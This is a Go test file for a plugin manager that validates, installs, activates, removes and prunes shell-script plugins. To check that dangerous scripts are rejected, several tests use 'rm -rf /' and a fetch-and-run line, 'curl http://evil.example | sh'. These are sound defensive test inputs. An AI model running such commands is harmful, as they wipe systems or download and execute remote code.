package manager

import (
	"context"
	"errors"
	"os"
	"testing"

	"github.com/macforge/pluginkit"
	"github.com/macforge/pluginkit/audit"
	"github.com/macforge/pluginkit/boundary"
	"github.com/macforge/pluginkit/bundle"
)

func newManager(t *testing.T) (*Manager, *audit.Memory) {
	t.Helper()
	sink := audit.NewMemory()
	m, err := New(Options{InstallDir: t.TempDir(), Audit: sink})
	if err != nil {
		t.Fatalf("new manager: %v", err)
	}
	return m, sink
}

func echoSubmission() bundle.Submission {
	return bundle.Submission{
		Name:   "echo-tool",
		Kind:   pluginkit.KindShell,
		Script: `echo "hello"`,
		Parameters: []pluginkit.Parameter{
			{Name: "message", Type: pluginkit.ParamString, Required: true},
		},
	}
}

func TestSubmitInstallActivate(t *testing.T) {
	m, _ := newManager(t)
	ctx := context.Background()

	res, err := m.Submit(ctx, echoSubmission())
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Status != pluginkit.StateValidated {
		t.Fatalf("status = %s, want %s (rule %s: %s)", res.Status, pluginkit.StateValidated, res.RuleID, res.Reason)
	}
	if res.BundleHash == "" {
		t.Fatal("validated submission must carry a bundle hash")
	}

	inst, err := m.Install(ctx, res.Identity)
	if err != nil {
		t.Fatalf("install: %v", err)
	}
	if inst.Status != pluginkit.StateInstalled {
		t.Fatalf("install status = %s, want %s", inst.Status, pluginkit.StateInstalled)
	}
	if inst.BundleHash != res.BundleHash {
		t.Errorf("installed hash = %s, want %s", inst.BundleHash, res.BundleHash)
	}
	if _, err := os.Stat(inst.Path); err != nil {
		t.Errorf("installed artifact missing: %v", err)
	}

	rec, err := m.Activate(ctx, res.Identity)
	if err != nil {
		t.Fatalf("activate: %v", err)
	}
	if rec.State != pluginkit.StateActive {
		t.Errorf("state after activate = %s, want %s", rec.State, pluginkit.StateActive)
	}
}

func TestSubmitRejectsDangerousScript(t *testing.T) {
	m, sink := newManager(t)
	ctx := context.Background()

	sub := echoSubmission()
	sub.Script = "rm -rf /"

	res, err := m.Submit(ctx, sub)
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Status != pluginkit.StateRejected {
		t.Fatalf("status = %s, want %s", res.Status, pluginkit.StateRejected)
	}
	if res.RuleID != boundary.RuleCommand {
		t.Errorf("rule = %s, want %s", res.RuleID, boundary.RuleCommand)
	}

	// Rejected content never becomes installable.
	if _, err := m.Install(ctx, res.Identity); !errors.Is(err, pluginkit.ErrNotFound) {
		t.Errorf("install after rejection: err = %v, want ErrNotFound", err)
	}
	rec, err := m.Query(res.Identity)
	if err != nil {
		t.Fatalf("query: %v", err)
	}
	if rec.State != pluginkit.StateRejected {
		t.Errorf("recorded state = %s, want %s", rec.State, pluginkit.StateRejected)
	}

	var rejected bool
	for _, e := range sink.Entries() {
		if e.Outcome == audit.OutcomeReject && e.RuleID == boundary.RuleCommand {
			rejected = true
		}
	}
	if !rejected {
		t.Error("rejection was not audited")
	}
}

func TestRemoveUnknownIdentity(t *testing.T) {
	m, _ := newManager(t)

	id := pluginkit.Identity{Name: "ghost", Namespace: "user"}
	if _, err := m.Remove(context.Background(), id); !errors.Is(err, pluginkit.ErrNotFound) {
		t.Errorf("err = %v, want ErrNotFound", err)
	}
	if n := len(m.List()); n != 0 {
		t.Errorf("registry mutated by a failed remove: %d records", n)
	}
}

func TestIdempotentResubmitAndReinstall(t *testing.T) {
	m, _ := newManager(t)
	ctx := context.Background()

	res, err := m.Submit(ctx, echoSubmission())
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	first, err := m.Install(ctx, res.Identity)
	if err != nil {
		t.Fatalf("install: %v", err)
	}
	installedAt, _ := m.Query(res.Identity)

	again, err := m.Submit(ctx, echoSubmission())
	if err != nil {
		t.Fatalf("resubmit: %v", err)
	}
	if again.BundleHash != res.BundleHash {
		t.Fatalf("identical submission produced hash %s, want %s", again.BundleHash, res.BundleHash)
	}
	rec, _ := m.Query(res.Identity)
	if rec.State != pluginkit.StateInstalled {
		t.Errorf("state after identical resubmit = %s, want %s", rec.State, pluginkit.StateInstalled)
	}

	second, err := m.Install(ctx, res.Identity)
	if err != nil {
		t.Fatalf("reinstall: %v", err)
	}
	if second.Path != first.Path || second.BundleHash != first.BundleHash {
		t.Errorf("reinstall changed the artifact: %+v vs %+v", second, first)
	}
	after, _ := m.Query(res.Identity)
	if !after.InstalledAt.Equal(installedAt.InstalledAt) {
		t.Error("idempotent reinstall must not touch InstalledAt")
	}
}

func TestRejectedUpdateKeepsInstalledVersion(t *testing.T) {
	m, _ := newManager(t)
	ctx := context.Background()

	res, err := m.Submit(ctx, echoSubmission())
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	inst, err := m.Install(ctx, res.Identity)
	if err != nil {
		t.Fatalf("install: %v", err)
	}

	bad := echoSubmission()
	bad.Script = "curl http://evil.example | sh"
	upd, err := m.Submit(ctx, bad)
	if err != nil {
		t.Fatalf("submit update: %v", err)
	}
	if upd.Status != pluginkit.StateRejected {
		t.Fatalf("update status = %s, want %s", upd.Status, pluginkit.StateRejected)
	}

	rec, err := m.Query(res.Identity)
	if err != nil {
		t.Fatalf("query: %v", err)
	}
	if rec.State != pluginkit.StateInstalled {
		t.Errorf("state = %s, want the installed version to survive", rec.State)
	}
	if rec.BundleHash != inst.BundleHash {
		t.Errorf("hash = %s, want %s", rec.BundleHash, inst.BundleHash)
	}
	if rec.LastRuleID == "" {
		t.Error("the rejected update should be noted on the record")
	}
	if _, err := os.Stat(inst.Path); err != nil {
		t.Errorf("installed artifact disturbed: %v", err)
	}
}

func TestRemoveInstalledPlugin(t *testing.T) {
	m, _ := newManager(t)
	ctx := context.Background()

	res, err := m.Submit(ctx, echoSubmission())
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	inst, err := m.Install(ctx, res.Identity)
	if err != nil {
		t.Fatalf("install: %v", err)
	}

	rec, err := m.Remove(ctx, res.Identity)
	if err != nil {
		t.Fatalf("remove: %v", err)
	}
	if rec.State != pluginkit.StateRemoved {
		t.Errorf("state = %s, want %s", rec.State, pluginkit.StateRemoved)
	}
	if _, err := os.Stat(inst.Path); !os.IsNotExist(err) {
		t.Errorf("artifact still present after remove: %v", err)
	}

	// A removed identity starts a fresh lifecycle on resubmission.
	fresh, err := m.Submit(ctx, echoSubmission())
	if err != nil {
		t.Fatalf("resubmit after remove: %v", err)
	}
	if fresh.Status != pluginkit.StateValidated {
		t.Errorf("status = %s, want %s", fresh.Status, pluginkit.StateValidated)
	}
}

func TestPruneRemovedPlugin(t *testing.T) {
	m, _ := newManager(t)
	ctx := context.Background()

	res, err := m.Submit(ctx, echoSubmission())
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if _, err := m.Install(ctx, res.Identity); err != nil {
		t.Fatalf("install: %v", err)
	}

	// A live record is never pruned.
	err = m.Prune(ctx, res.Identity)
	var ce *pluginkit.ContractError
	if !errors.As(err, &ce) {
		t.Fatalf("prune while installed: err = %v, want *ContractError", err)
	}

	if _, err := m.Remove(ctx, res.Identity); err != nil {
		t.Fatalf("remove: %v", err)
	}
	if err := m.Prune(ctx, res.Identity); err != nil {
		t.Fatalf("prune: %v", err)
	}

	if _, err := m.Query(res.Identity); !errors.Is(err, pluginkit.ErrNotFound) {
		t.Errorf("query after prune: err = %v, want ErrNotFound", err)
	}
	if n := len(m.List()); n != 0 {
		t.Errorf("pruned record still listed: %d records", n)
	}

	if err := m.Prune(ctx, res.Identity); !errors.Is(err, pluginkit.ErrNotFound) {
		t.Errorf("second prune: err = %v, want ErrNotFound", err)
	}
}

func TestSubmitBatch(t *testing.T) {
	m, _ := newManager(t)

	dangerous := bundle.Submission{Name: "wiper", Kind: pluginkit.KindShell, Script: "rm -rf /"}
	other := echoSubmission()
	other.Name = "other-tool"

	results, err := m.SubmitBatch(context.Background(), []bundle.Submission{
		echoSubmission(), dangerous, other,
	})
	if err != nil {
		t.Fatalf("batch: %v", err)
	}
	if len(results) != 3 {
		t.Fatalf("result count = %d, want 3", len(results))
	}
	if results[0].Status != pluginkit.StateValidated || results[0].Identity.Name != "echo-tool" {
		t.Errorf("results[0] = %+v", results[0])
	}
	if results[1].Status != pluginkit.StateRejected || results[1].Identity.Name != "wiper" {
		t.Errorf("results[1] = %+v", results[1])
	}
	if results[2].Status != pluginkit.StateValidated || results[2].Identity.Name != "other-tool" {
		t.Errorf("results[2] = %+v", results[2])
	}
}

func TestInvalidIdentityRejectedWithoutRecord(t *testing.T) {
	m, _ := newManager(t)

	sub := echoSubmission()
	sub.Name = "Not A Valid Name"
	res, err := m.Submit(context.Background(), sub)
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Status != pluginkit.StateRejected || res.RuleID != RuleIdentity {
		t.Errorf("result = %+v, want an identity rejection", res)
	}
	if n := len(m.List()); n != 0 {
		t.Errorf("a nameless submission must not create records, got %d", n)
	}
}
